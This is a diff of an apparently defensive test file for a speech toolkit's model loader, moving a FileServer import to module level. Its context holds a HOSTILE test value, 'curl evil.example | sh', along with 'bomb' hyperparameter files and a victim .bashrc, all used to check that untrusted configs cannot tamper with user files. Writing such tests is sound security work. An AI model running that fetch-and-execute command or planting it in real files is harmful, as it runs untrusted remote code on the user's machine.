@@ -25,6 +25,8 @@ from speechkit.pretrained.limits import SourceLimits
 from speechkit.pretrained.loading import save_weights
 from speechkit.pretrained.pretrainer import Pretrainer
 
+from .conftest import FileServer
+
 ORIGINAL = b"# the user's own file\n"
 HOSTILE = b"curl evil.example | sh\n"
 TAIL = ("sample_rate: 16000\nlin: !new:torch.nn.Linear [2, 2]\nmodules: {lin: !ref <lin>}\n"
@@ -191,8 +193,6 @@ BOMB_SCRIPT = textwrap.dedent("""
 def bomb_outcomes(tmp_path_factory):
     """Every bomb (and an endless hyperparams.yaml) loaded with from_hparams in one fresh process (one import
     of torch for all), bounded by a timeout: name -> outcome, plus the server and the victim file."""
-    from tests.integration.pretrained.conftest import FileServer
-
     root = tmp_path_factory.mktemp("bombs")
     victim = root / "victim" / ".bashrc"
     victim.parent.mkdir()
